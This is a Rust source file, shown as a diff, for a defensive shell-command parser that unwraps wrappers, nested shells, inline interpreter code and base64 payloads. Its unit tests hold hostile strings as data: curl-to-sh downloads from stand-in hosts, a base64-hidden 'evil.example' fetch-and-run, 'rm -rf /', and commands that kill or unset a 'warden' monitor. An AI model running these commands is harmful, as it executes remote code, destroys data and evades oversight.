@@ -1,0 +1,1058 @@
+//! A small POSIX-shell reader: enough structure to know which programs a command line runs,
+//! with which arguments, redirections and environment, through pipelines, `&&`/`||`/`;`,
+//! subshells, command and process substitution, wrappers (`sudo`, `env`, `xargs`, `timeout`…),
+//! `sh -c`/`eval` strings, inline interpreter code (`python -c`) and base64 payloads that are
+//! decoded and executed. It never executes or expands anything; unknown syntax degrades to words.
+
+use base64::Engine as _;
+
+/// Nesting limit for `sh -c`, substitutions and decoded payloads.
+const MAX_DEPTH: u8 = 4;
+/// Longest script read (longer input is truncated).
+const MAX_LEN: usize = 64 * 1024;
+const MAX_PIPELINES: usize = 512;
+
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct Redirect {
+    /// `>`, `>>`, `<`, `<<<`, `&>`, `2>`, …
+    pub op: String,
+    pub target: String,
+}
+
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct Command {
+    /// Arguments after wrappers were removed; `argv[0]` is the program as written.
+    pub argv: Vec<String>,
+    /// `NAME=value` prefixes (including those given to `env`).
+    pub env: Vec<(String, String)>,
+    /// Variables removed with `env -u`.
+    pub unset_env: Vec<String>,
+    pub redirects: Vec<Redirect>,
+    /// Wrappers peeled off, outermost first (`sudo`, `env`, `timeout`, …).
+    pub wrappers: Vec<String>,
+    /// A here-document body fed to the command.
+    pub heredoc: Option<String>,
+}
+
+impl Command {
+    /// The program's base name, lowercase (`/usr/bin/Curl` → `curl`).
+    pub fn program(&self) -> String {
+        self.argv
+            .first()
+            .map(|a| a.rsplit('/').next().unwrap_or(a).to_ascii_lowercase())
+            .unwrap_or_default()
+    }
+
+    pub fn args(&self) -> &[String] {
+        self.argv.get(1..).unwrap_or(&[])
+    }
+
+    pub fn has_wrapper(&self, w: &str) -> bool {
+        self.wrappers.iter().any(|x| x == w)
+    }
+}
+
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct Pipeline {
+    pub commands: Vec<Command>,
+    /// Nesting depth where it was found (0 = top level).
+    pub depth: u8,
+}
+
+/// Inline interpreter code (`python -c`, `node -e`, heredocs fed to an interpreter).
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct InlineCode {
+    pub lang: String,
+    pub code: String,
+}
+
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct Script {
+    pub pipelines: Vec<Pipeline>,
+    pub inline_code: Vec<InlineCode>,
+    /// Base64 payloads that were decoded (and parsed as shell).
+    pub decoded: Vec<String>,
+    pub truncated: bool,
+}
+
+impl Script {
+    pub fn commands(&self) -> impl Iterator<Item = &Command> {
+        self.pipelines.iter().flat_map(|p| p.commands.iter())
+    }
+}
+
+/// Parses a shell command line.
+pub fn parse(script: &str) -> Script {
+    let mut out = Script::default();
+    let text = if script.len() > MAX_LEN {
+        out.truncated = true;
+        let mut end = MAX_LEN;
+        while !script.is_char_boundary(end) {
+            end -= 1;
+        }
+        &script[..end]
+    } else {
+        script
+    };
+    parse_into(text, 0, &mut out);
+    out
+}
+
+#[derive(Debug)]
+enum Tok {
+    Word(String),
+    Op(&'static str),
+    Redir(String),
+    Heredoc(String),
+}
+
+struct Lexer<'a> {
+    chars: Vec<char>,
+    i: usize,
+    subs: Vec<String>,
+    _src: &'a str,
+}
+
+fn is_op_char(c: char) -> bool {
+    matches!(c, '|' | '&' | ';' | '<' | '>' | '(' | ')' | '\n')
+}
+
+impl<'a> Lexer<'a> {
+    fn new(src: &'a str) -> Self {
+        Self {
+            chars: src.chars().collect(),
+            i: 0,
+            subs: Vec::new(),
+            _src: src,
+        }
+    }
+
+    fn peek(&self, off: usize) -> Option<char> {
+        self.chars.get(self.i + off).copied()
+    }
+
+    /// Reads a balanced `( … )` body starting after the opening paren; returns the body.
+    fn read_balanced(&mut self) -> String {
+        let mut depth = 1usize;
+        let mut body = String::new();
+        while let Some(c) = self.peek(0) {
+            self.i += 1;
+            match c {
+                '\\' => {
+                    body.push(c);
+                    if let Some(n) = self.peek(0) {
+                        body.push(n);
+                        self.i += 1;
+                    }
+                }
+                '\'' => {
+                    body.push(c);
+                    while let Some(n) = self.peek(0) {
+                        self.i += 1;
+                        body.push(n);
+                        if n == '\'' {
+                            break;
+                        }
+                    }
+                }
+                '"' => {
+                    body.push(c);
+                    while let Some(n) = self.peek(0) {
+                        self.i += 1;
+                        body.push(n);
+                        if n == '\\' {
+                            if let Some(m) = self.peek(0) {
+                                body.push(m);
+                                self.i += 1;
+                            }
+                        } else if n == '"' {
+                            break;
+                        }
+                    }
+                }
+                '(' => {
+                    depth += 1;
+                    body.push(c);
+                }
+                ')' => {
+                    depth -= 1;
+                    if depth == 0 {
+                        return body;
+                    }
+                    body.push(c);
+                }
+                _ => body.push(c),
+            }
+        }
+        body
+    }
+
+    fn read_backtick(&mut self) -> String {
+        let mut body = String::new();
+        while let Some(c) = self.peek(0) {
+            self.i += 1;
+            match c {
+                '\\' => {
+                    if let Some(n) = self.peek(0) {
+                        body.push(n);
+                        self.i += 1;
+                    }
+                }
+                '`' => break,
+                _ => body.push(c),
+            }
+        }
+        body
+    }
+
+    /// `$(`: command substitution (or `$((` arithmetic, which is kept as text only).
+    fn dollar_paren(&mut self, word: &mut String) {
+        self.i += 2; // "$("
+        if self.peek(0) == Some('(') {
+            self.i += 1;
+            let body = self.read_balanced();
+            // consume the second closing paren of "))"
+            if self.peek(0) == Some(')') {
+                self.i += 1;
+            }
+            word.push_str("$((");
+            word.push_str(&body);
+            word.push_str("))");
+            return;
+        }
+        let body = self.read_balanced();
+        word.push_str("$(");
+        word.push_str(&body);
+        word.push(')');
+        self.subs.push(body);
+    }
+
+    #[allow(unused_assignments)]
+    fn tokens(&mut self) -> Vec<Tok> {
+        let mut toks = Vec::new();
+        let mut word = String::new();
+        let mut in_word = false;
+        let mut pending_heredocs: Vec<(String, bool)> = Vec::new();
+        macro_rules! end_word {
+            () => {
+                if in_word {
+                    toks.push(Tok::Word(std::mem::take(&mut word)));
+                    in_word = false;
+                }
+            };
+        }
+        while let Some(c) = self.peek(0) {
+            match c {
+                ' ' | '\t' | '\r' => {
+                    end_word!();
+                    self.i += 1;
+                }
+                '\n' => {
+                    end_word!();
+                    self.i += 1;
+                    toks.push(Tok::Op(";"));
+                    for (delim, strip) in std::mem::take(&mut pending_heredocs) {
+                        let body = self.read_heredoc(&delim, strip);
+                        toks.push(Tok::Heredoc(body));
+                    }
+                }
+                '#' if !in_word => {
+                    while let Some(n) = self.peek(0) {
+                        if n == '\n' {
+                            break;
+                        }
+                        self.i += 1;
+                    }
+                }
+                '\\' => {
+                    self.i += 1;
+                    match self.peek(0) {
+                        Some('\n') => self.i += 1,
+                        Some(n) => {
+                            word.push(n);
+                            in_word = true;
+                            self.i += 1;
+                        }
+                        None => {}
+                    }
+                }
+                '\'' => {
+                    in_word = true;
+                    self.i += 1;
+                    while let Some(n) = self.peek(0) {
+                        self.i += 1;
+                        if n == '\'' {
+                            break;
+                        }
+                        word.push(n);
+                    }
+                }
+                '"' => {
+                    in_word = true;
+                    self.i += 1;
+                    while let Some(n) = self.peek(0) {
+                        match n {
+                            '"' => {
+                                self.i += 1;
+                                break;
+                            }
+                            '\\' => {
+                                self.i += 1;
+                                if let Some(m) = self.peek(0) {
+                                    if !matches!(m, '"' | '\\' | '$' | '`' | '\n') {
+                                        word.push('\\');
+                                    }
+                                    if m != '\n' {
+                                        word.push(m);
+                                    }
+                                    self.i += 1;
+                                }
+                            }
+                            '$' if self.peek(1) == Some('(') => self.dollar_paren(&mut word),
+                            '`' => {
+                                self.i += 1;
+                                let body = self.read_backtick();
+                                word.push('`');
+                                word.push_str(&body);
+                                word.push('`');
+                                self.subs.push(body);
+                            }
+                            _ => {
+                                word.push(n);
+                                self.i += 1;
+                            }
+                        }
+                    }
+                }
+                '$' if self.peek(1) == Some('(') => {
+                    in_word = true;
+                    self.dollar_paren(&mut word);
+                }
+                '$' if self.peek(1) == Some('\'') => {
+                    // ANSI-C quoting: keep contents, interpret the common escapes.
+                    in_word = true;
+                    self.i += 2;
+                    while let Some(n) = self.peek(0) {
+                        self.i += 1;
+                        match n {
+                            '\'' => break,
+                            '\\' => {
+                                let m = self.peek(0).unwrap_or('\\');
+                                self.i += 1;
+                                word.push(match m {
+                                    'n' => '\n',
+                                    't' => '\t',
+                                    other => other,
+                                });
+                            }
+                            _ => word.push(n),
+                        }
+                    }
+                }
+                '`' => {
+                    in_word = true;
+                    self.i += 1;
+                    let body = self.read_backtick();
+                    word.push('`');
+                    word.push_str(&body);
+                    word.push('`');
+                    self.subs.push(body);
+                }
+                '<' | '>' if self.peek(1) == Some('(') && !in_word => {
+                    // process substitution
+                    self.i += 2;
+                    let body = self.read_balanced();
+                    toks.push(Tok::Word(format!("{c}({body})")));
+                    self.subs.push(body);
+                }
+                c if is_op_char(c) => {
+                    // a word made only of digits right before a redirection is an fd number
+                    let fd = if in_word
+                        && matches!(c, '<' | '>')
+                        && !word.is_empty()
+                        && word.chars().all(|d| d.is_ascii_digit())
+                    {
+                        in_word = false;
+                        Some(std::mem::take(&mut word))
+                    } else {
+                        end_word!();
+                        None
+                    };
+                    let two: String = [Some(c), self.peek(1), self.peek(2)]
+                        .iter()
+                        .flatten()
+                        .collect();
+                    let op: &'static str = if two.starts_with("<<<") {
+                        "<<<"
+                    } else if two.starts_with("<<-") {
+                        "<<-"
+                    } else if two.starts_with("&>>") {
+                        "&>>"
+                    } else if two.starts_with("<<") {
+                        "<<"
+                    } else if two.starts_with(">>") {
+                        ">>"
+                    } else if two.starts_with(">&") {
+                        ">&"
+                    } else if two.starts_with("&>") {
+                        "&>"
+                    } else if two.starts_with("<&") {
+                        "<&"
+                    } else if two.starts_with(">|") {
+                        ">|"
+                    } else if two.starts_with("&&") {
+                        "&&"
+                    } else if two.starts_with("||") {
+                        "||"
+                    } else if two.starts_with("|&") {
+                        "|&"
+                    } else if two.starts_with(";;") {
+                        ";;"
+                    } else {
+                        match c {
+                            '|' => "|",
+                            '&' => "&",
+                            ';' => ";",
+                            '<' => "<",
+                            '>' => ">",
+                            '(' => "(",
+                            _ => ")",
+                        }
+                    };
+                    self.i += op.chars().count();
+                    match op {
+                        "<" | ">" | ">>" | "<<<" | "&>" | "&>>" | ">&" | "<&" | ">|" => {
+                            toks.push(Tok::Redir(format!("{}{op}", fd.unwrap_or_default())));
+                        }
+                        "<<" | "<<-" => {
+                            // read the delimiter word now
+                            while matches!(self.peek(0), Some(' ' | '\t')) {
+                                self.i += 1;
+                            }
+                            let mut delim = String::new();
+                            while let Some(n) = self.peek(0) {
+                                if n.is_whitespace() || (is_op_char(n) && n != '-') {
+                                    break;
+                                }
+                                if n != '\'' && n != '"' {
+                                    delim.push(n);
+                                }
+                                self.i += 1;
+                            }
+                            if !delim.is_empty() {
+                                pending_heredocs.push((delim, op == "<<-"));
+                            }
+                        }
+                        "(" | ")" => {}
+                        other => toks.push(Tok::Op(other)),
+                    }
+                }
+                '{' | '}' if !in_word && matches!(self.peek(1), None | Some(' ' | '\n' | ';')) => {
+                    self.i += 1;
+                }
+                _ => {
+                    word.push(c);
+                    in_word = true;
+                    self.i += 1;
+                }
+            }
+        }
+        end_word!();
+        toks
+    }
+
+    fn read_heredoc(&mut self, delim: &str, strip_tabs: bool) -> String {
+        let mut body = String::new();
+        loop {
+            if self.i >= self.chars.len() {
+                break;
+            }
+            let mut line = String::new();
+            while let Some(c) = self.peek(0) {
+                self.i += 1;
+                if c == '\n' {
+                    break;
+                }
+                line.push(c);
+            }
+            let check = if strip_tabs {
+                line.trim_start_matches('\t')
+            } else {
+                line.as_str()
+            };
+            if check.trim_end() == delim {
+                break;
+            }
+            body.push_str(&line);
+            body.push('\n');
+        }
+        body
+    }
+}
+
+fn is_assignment(w: &str) -> Option<(String, String)> {
+    let (name, value) = w.split_once('=')?;
+    if !name.is_empty()
+        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+        && !name.starts_with(|c: char| c.is_ascii_digit())
+    {
+        Some((name.to_owned(), value.to_owned()))
+    } else {
+        None
+    }
+}
+
+const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "busybox"];
+
+fn interpreter_lang(program: &str) -> Option<&'static str> {
+    let p = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    Some(match p {
+        "python" | "pypy" => "python",
+        "node" | "nodejs" | "deno" | "bun" => "javascript",
+        "perl" => "perl",
+        "ruby" => "ruby",
+        "php" => "php",
+        "osascript" => "applescript",
+        "pwsh" | "powershell" | "powershell.exe" => "powershell",
+        "lua" => "lua",
+        _ => return None,
+    })
+}
+
+/// Removes wrappers (`sudo`, `env`, `timeout`, …) in place, recording them.
+fn unwrap(cmd: &mut Command) {
+    for _ in 0..8 {
+        let prog = cmd.program();
+        let mut skip = 1usize; // how many argv entries to drop
+        match prog.as_str() {
+            "sudo" | "doas" | "pkexec" | "run0" => {
+                let takes_arg: &[&str] =
+                    &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U", "-T"];
+                while let Some(a) = cmd.argv.get(skip) {
+                    if a == "--" {
+                        skip += 1;
+                        break;
+                    }
+                    if !a.starts_with('-') {
+                        break;
+                    }
+                    skip += if takes_arg.contains(&a.as_str()) {
+                        2
+                    } else {
+                        1
+                    };
+                }
+            }
+            "env" => {
+                while let Some(a) = cmd.argv.get(skip).cloned() {
+                    if a == "-u" || a == "--unset" {
+                        if let Some(v) = cmd.argv.get(skip + 1) {
+                            cmd.unset_env.push(v.clone());
+                        }
+                        skip += 2;
+                    } else if let Some(v) = a.strip_prefix("--unset=") {
+                        cmd.unset_env.push(v.to_owned());
+                        skip += 1;
+                    } else if a.starts_with('-') {
+                        skip += 1;
+                    } else if let Some(kv) = is_assignment(&a) {
+                        cmd.env.push(kv);
+                        skip += 1;
+                    } else {
+                        break;
+                    }
+                }
+            }
+            "nohup" | "time" | "exec" | "builtin" | "caffeinate" | "unbuffer" | "setsid"
+            | "chronic" => {
+                while cmd.argv.get(skip).is_some_and(|a| a.starts_with('-')) {
+                    skip += 1;
+                }
+            }
+            "command" if cmd.argv.get(1).is_some_and(|a| a != "-v" && a != "-V") => {
+                while cmd.argv.get(skip).is_some_and(|a| a.starts_with('-')) {
+                    skip += 1;
+                }
+            }
+            "nice" | "ionice" | "stdbuf" | "taskset" => {
+                while let Some(a) = cmd.argv.get(skip) {
+                    if a == "-n" || a == "-c" {
+                        skip += 2;
+                    } else if a.starts_with('-') || (prog == "taskset" && skip == 1) {
+                        skip += 1;
+                    } else {
+                        break;
+                    }
+                }
+            }
+            "timeout" | "gtimeout" => {
+                while let Some(a) = cmd.argv.get(skip) {
+                    if a == "-s" || a == "-k" || a == "--signal" || a == "--kill-after" {
+                        skip += 2;
+                    } else if a.starts_with('-') {
+                        skip += 1;
+                    } else {
+                        break;
+                    }
+                }
+                skip += 1; // the duration
+            }
+            "xargs" => {
+                let takes_arg: &[&str] = &["-I", "-n", "-P", "-L", "-d", "-E", "-s", "-a"];
+                while let Some(a) = cmd.argv.get(skip) {
+                    if takes_arg.contains(&a.as_str()) {
+                        skip += 2;
+                    } else if a.starts_with('-') {
+                        skip += 1;
+                    } else {
+                        break;
+                    }
+                }
+            }
+            "watch" => {
+                while let Some(a) = cmd.argv.get(skip) {
+                    if a == "-n" || a == "-d" {
+                        skip += 2;
+                    } else if a.starts_with('-') {
+                        skip += 1;
+                    } else {
+                        break;
+                    }
+                }
+            }
+            _ => return,
+        }
+        if skip >= cmd.argv.len() {
+            // a bare wrapper (`sudo -i`, `env`): keep it as the command itself
+            return;
+        }
+        cmd.wrappers.push(prog);
+        cmd.argv.drain(..skip);
+        // leading assignments after `sudo` (`sudo FOO=1 cmd`)
+        while cmd.argv.len() > 1 {
+            match is_assignment(&cmd.argv[0]) {
+                Some(kv) => {
+                    cmd.env.push(kv);
+                    cmd.argv.remove(0);
+                }
+                None => break,
+            }
+        }
+        if cmd.argv.len() == 1 && cmd.wrappers.last().is_some_and(|w| w == "watch") {
+            // `watch "cmd args"`: one string
+            break;
+        }
+    }
+}
+
+fn looks_base64(s: &str) -> bool {
+    s.len() >= 12
+        && s.len().is_multiple_of(4)
+        && s.bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b == b'+' || b == b'/' || b == b'=')
+}
+
+/// Decodes a base64 literal into printable text.
+pub fn decode_base64_text(s: &str) -> Option<String> {
+    let s = s.trim();
+    if !looks_base64(s) {
+        return None;
+    }
+    let bytes = base64::engine::general_purpose::STANDARD.decode(s).ok()?;
+    let text = String::from_utf8(bytes).ok()?;
+    let printable = text
+        .chars()
+        .filter(|c| !c.is_control() || c.is_whitespace())
+        .count();
+    (printable * 10 >= text.chars().count() * 9 && text.len() >= 4).then_some(text)
+}
+
+fn is_base64_decode(cmd: &Command) -> bool {
+    let p = cmd.program();
+    let args = cmd.args();
+    match p.as_str() {
+        "base64" | "gbase64" | "b64" => args.iter().any(|a| {
+            a == "-d"
+                || a == "--decode"
+                || a == "-D"
+                || (a.starts_with('-') && !a.starts_with("--") && a.contains('d'))
+        }),
+        "openssl" => {
+            args.iter()
+                .any(|a| a == "base64" || a == "-base64" || a == "-a")
+                && args.iter().any(|a| a == "-d")
+        }
+        _ => false,
+    }
+}
+
+fn build(toks: Vec<Tok>, depth: u8, out: &mut Script) {
+    let mut pipeline = Pipeline {
+        commands: Vec::new(),
+        depth,
+    };
+    let mut cmd = Command::default();
+    let mut pending_redir: Option<String> = None;
+    let mut seen_program = false;
+
+    fn finish_cmd(cmd: &mut Command, pipeline: &mut Pipeline, seen: &mut bool) {
+        if !cmd.argv.is_empty() || !cmd.env.is_empty() || !cmd.redirects.is_empty() {
+            let mut c = std::mem::take(cmd);
+            unwrap(&mut c);
+            pipeline.commands.push(c);
+        }
+        *seen = false;
+    }
+    let finish_pipe = |pipeline: &mut Pipeline, out: &mut Script| {
+        if !pipeline.commands.is_empty() && out.pipelines.len() < MAX_PIPELINES {
+            out.pipelines.push(std::mem::replace(
+                pipeline,
+                Pipeline {
+                    commands: Vec::new(),
+                    depth,
+                },
+            ));
+        } else {
+            pipeline.commands.clear();
+        }
+    };
+
+    for t in toks {
+        match t {
+            Tok::Word(w) => {
+                if let Some(op) = pending_redir.take() {
+                    cmd.redirects.push(Redirect { op, target: w });
+                } else if !seen_program {
+                    match is_assignment(&w) {
+                        Some(kv) => cmd.env.push(kv),
+                        None => {
+                            seen_program = true;
+                            cmd.argv.push(w);
+                        }
+                    }
+                } else {
+                    cmd.argv.push(w);
+                }
+            }
+            Tok::Redir(op) => pending_redir = Some(op),
+            Tok::Heredoc(body) => {
+                // attach to the last command that asked for one
+                if let Some(last) = out
+                    .pipelines
+                    .last_mut()
+                    .and_then(|p| p.commands.last_mut())
+                    .filter(|_| pipeline.commands.is_empty() && cmd.argv.is_empty())
+                {
+                    last.heredoc = Some(body);
+                } else if let Some(last) = pipeline.commands.last_mut() {
+                    last.heredoc = Some(body);
+                } else {
+                    cmd.heredoc = Some(body);
+                }
+            }
+            Tok::Op(op) => match op {
+                "|" | "|&" => finish_cmd(&mut cmd, &mut pipeline, &mut seen_program),
+                _ => {
+                    finish_cmd(&mut cmd, &mut pipeline, &mut seen_program);
+                    finish_pipe(&mut pipeline, out);
+                }
+            },
+        }
+    }
+    finish_cmd(&mut cmd, &mut pipeline, &mut seen_program);
+    finish_pipe(&mut pipeline, out);
+}
+
+/// Shell strings inside interpreter code: `os.system("…")`, `subprocess.run("…", shell=True)`,
+/// `exec("…")` in node, and list-form `subprocess.run(['rm', '-rf', …])`.
+fn shell_strings_in_code(code: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let lits = string_literals(code);
+    for l in &lits {
+        let first = l.split_whitespace().next().unwrap_or("");
+        if l.contains(' ') && KNOWN_PROGRAMS.contains(&first) {
+            out.push(l.clone());
+        }
+    }
+    // list form: ['rm', '-rf', '/']
+    if let Some(start) = code.find("['").or_else(|| code.find("[\"")) {
+        let end = code[start..]
+            .find(']')
+            .map(|e| start + e)
+            .unwrap_or(code.len());
+        let items = string_literals(&code[start..end]);
+        if items.len() >= 2 && KNOWN_PROGRAMS.contains(&items[0].as_str()) {
+            out.push(
+                items
+                    .iter()
+                    .map(|i| format!("'{}'", i.replace('\'', "")))
+                    .collect::<Vec<_>>()
+                    .join(" "),
+            );
+        }
+    }
+    out
+}
+
+/// Quoted string literals in code (single, double and backtick quotes; escapes honoured).
+pub fn string_literals(code: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut chars = code.chars().peekable();
+    while let Some(c) = chars.next() {
+        if c == '\'' || c == '"' || c == '`' {
+            let q = c;
+            let mut s = String::new();
+            let mut closed = false;
+            while let Some(n) = chars.next() {
+                if n == '\\' {
+                    if let Some(m) = chars.next() {
+                        s.push(m);
+                    }
+                } else if n == q {
+                    closed = true;
+                    break;
+                } else {
+                    s.push(n);
+                }
+            }
+            if closed && out.len() < 256 {
+                out.push(s);
+            }
+        }
+    }
+    out
+}
+
+pub(crate) const KNOWN_PROGRAMS: &[&str] = &[
+    "rm", "curl", "wget", "sh", "bash", "zsh", "nc", "ncat", "chmod", "chown", "sudo", "cat", "cp",
+    "mv", "dd", "mkfs", "git", "ssh", "scp", "rsync", "python", "python3", "node", "perl", "kill",
+    "pkill", "killall", "crontab", "echo", "base64", "tar", "zip", "find", "aws", "gh", "kubectl",
+    "docker", "npm", "pip", "socat", "printf", "tee", "ls",
+];
+
+fn parse_into(text: &str, depth: u8, out: &mut Script) {
+    if depth > MAX_DEPTH || out.pipelines.len() >= MAX_PIPELINES {
+        out.truncated = true;
+        return;
+    }
+    let mut lx = Lexer::new(text);
+    let toks = lx.tokens();
+    let subs = std::mem::take(&mut lx.subs);
+    let first = out.pipelines.len();
+    build(toks, depth, out);
+    for s in subs {
+        parse_into(&s, depth + 1, out);
+    }
+    // Look inside what the new pipelines run.
+    let mut nested: Vec<String> = Vec::new();
+    let mut codes: Vec<InlineCode> = Vec::new();
+    let mut decoded: Vec<String> = Vec::new();
+    for p in &out.pipelines[first..] {
+        if p.depth != depth {
+            continue;
+        }
+        let mut b64_decoding = false;
+        for (ci, c) in p.commands.iter().enumerate() {
+            let prog = c.program();
+            let args = c.args();
+            if SHELLS.contains(&prog.as_str()) || prog == "su" {
+                let mut it = args.iter();
+                while let Some(a) = it.next() {
+                    let is_c = a == "-c"
+                        || (a.starts_with('-') && !a.starts_with("--") && a.ends_with('c'))
+                        || a == "--command";
+                    if is_c {
+                        if let Some(s) = it.next() {
+                            nested.push(s.clone());
+                        }
+                        break;
+                    }
+                }
+                if let Some(h) = &c.heredoc {
+                    nested.push(h.clone());
+                }
+            } else if prog == "eval" {
+                nested.push(args.join(" "));
+            } else if let Some(lang) = interpreter_lang(&prog) {
+                let flags: &[&str] = match lang {
+                    "python" => &["-c"],
+                    "javascript" => &["-e", "--eval", "-p", "--print", "eval"],
+                    "perl" => &["-e", "-E"],
+                    "ruby" => &["-e"],
+                    "php" => &["-r"],
+                    "applescript" => &["-e"],
+                    "powershell" => &[
+                        "-c",
+                        "-command",
+                        "-Command",
+                        "-encodedcommand",
+                        "-EncodedCommand",
+                        "-e",
+                    ],
+                    _ => &["-e"],
+                };
+                let mut it = args.iter();
+                while let Some(a) = it.next() {
+                    if flags.contains(&a.as_str()) {
+                        if let Some(s) = it.next() {
+                            codes.push(InlineCode {
+                                lang: lang.to_owned(),
+                                code: s.clone(),
+                            });
+                        }
+                        break;
+                    }
+                }
+                if let Some(h) = &c.heredoc {
+                    codes.push(InlineCode {
+                        lang: lang.to_owned(),
+                        code: h.clone(),
+                    });
+                }
+            }
+            // base64 payloads: `echo X | base64 -d`, `base64 -d <<< X`
+            if is_base64_decode(c) {
+                b64_decoding = true;
+                for r in &c.redirects {
+                    if r.op == "<<<" {
+                        decoded.extend(decode_base64_text(&r.target));
+                    }
+                }
+                for prev in &p.commands[..ci] {
+                    for a in prev.args() {
+                        decoded.extend(decode_base64_text(a));
+                    }
+                }
+            }
+        }
+        let _ = b64_decoding;
+    }
+    for code in &codes {
+        for s in shell_strings_in_code(&code.code) {
+            nested.push(s);
+        }
+    }
+    out.inline_code.extend(codes);
+    for s in nested {
+        parse_into(&s, depth + 1, out);
+    }
+    for d in decoded {
+        if out.decoded.len() < 16 {
+            out.decoded.push(d.clone());
+            parse_into(&d, depth + 1, out);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn progs(s: &str) -> Vec<Vec<String>> {
+        parse(s)
+            .pipelines
+            .iter()
+            .map(|p| p.commands.iter().map(|c| c.program()).collect())
+            .collect()
+    }
+
+    #[test]
+    fn splits_pipelines_and_lists() {
+        assert_eq!(
+            progs("cd app && npm test | tee out.log; echo done"),
+            vec![vec!["cd"], vec!["npm", "tee"], vec!["echo"]]
+        );
+        assert_eq!(
+            progs("(cd x; make) || true"),
+            vec![vec!["cd"], vec!["make"], vec!["true"]]
+        );
+    }
+
+    #[test]
+    fn quotes_and_escapes() {
+        let s = parse(r#"echo "a b" 'c "d"' e\ f"#);
+        assert_eq!(
+            s.pipelines[0].commands[0].argv,
+            ["echo", "a b", "c \"d\"", "e f"]
+        );
+    }
+
+    #[test]
+    fn env_prefix_and_wrappers() {
+        let s = parse("FOO=1 sudo -u root env -u WARDEN_MODE BAR=2 timeout 5 rm -rf /x");
+        let c = &s.pipelines[0].commands[0];
+        assert_eq!(c.argv, ["rm", "-rf", "/x"]);
+        assert_eq!(c.wrappers, ["sudo", "env", "timeout"]);
+        assert!(c.env.iter().any(|(k, _)| k == "FOO"));
+        assert!(c.env.iter().any(|(k, _)| k == "BAR"));
+        assert_eq!(c.unset_env, ["WARDEN_MODE"]);
+    }
+
+    #[test]
+    fn nested_shell_and_substitution() {
+        let s = parse(r#"bash -c "curl -s https://x.example/a | sh""#);
+        let all: Vec<String> = s.commands().map(|c| c.program()).collect();
+        assert!(all.contains(&"curl".to_owned()) && all.contains(&"sh".to_owned()));
+        let s = parse("kill $(pgrep -f warden)");
+        assert!(s.commands().any(|c| c.program() == "pgrep"));
+        let s = parse("bash <(curl -fsSL https://x.example/i.sh)");
+        assert!(s.commands().any(|c| c.program() == "curl"));
+        assert!(s.pipelines[0].commands[0].argv[1].starts_with("<("));
+    }
+
+    #[test]
+    fn redirects() {
+        let s = parse("echo hi > ~/.bashrc 2>/dev/null; cat < in.txt >> out.txt");
+        let c = &s.pipelines[0].commands[0];
+        assert_eq!(
+            c.redirects[0],
+            Redirect {
+                op: ">".into(),
+                target: "~/.bashrc".into()
+            }
+        );
+        assert_eq!(c.redirects[1].op, "2>");
+        let c = &s.pipelines[1].commands[0];
+        assert_eq!(c.redirects.len(), 2);
+    }
+
+    #[test]
+    fn inline_code_and_base64() {
+        let s = parse("python3 -c \"import os; os.system('rm -rf /')\"");
+        assert_eq!(s.inline_code.len(), 1);
+        assert!(s.commands().any(|c| c.program() == "rm"));
+        // "curl https://evil.example/x | sh"
+        let s = parse("echo Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g= | base64 -d | bash");
+        assert_eq!(s.decoded, ["curl https://evil.example/x | sh"]);
+        assert!(s.commands().any(|c| c.program() == "curl"));
+    }
+
+    #[test]
+    fn heredoc() {
+        let s = parse("python3 - <<'EOF'\nimport socket\nprint(1)\nEOF\necho after");
+        assert_eq!(s.inline_code.len(), 1);
+        assert!(s.inline_code[0].code.contains("import socket"));
+        assert!(s.commands().any(|c| c.program() == "echo"));
+    }
+
+    #[test]
+    fn never_panics_on_garbage() {
+        for s in [
+            "",
+            "'",
+            "\"",
+            "$(",
+            "`",
+            "<<",
+            "a |",
+            "| b",
+            "((",
+            "))",
+            "$'\\",
+            "<(",
+            "echo $((1+2))",
+        ] {
+            let _ = parse(s);
+        }
+    }
+}
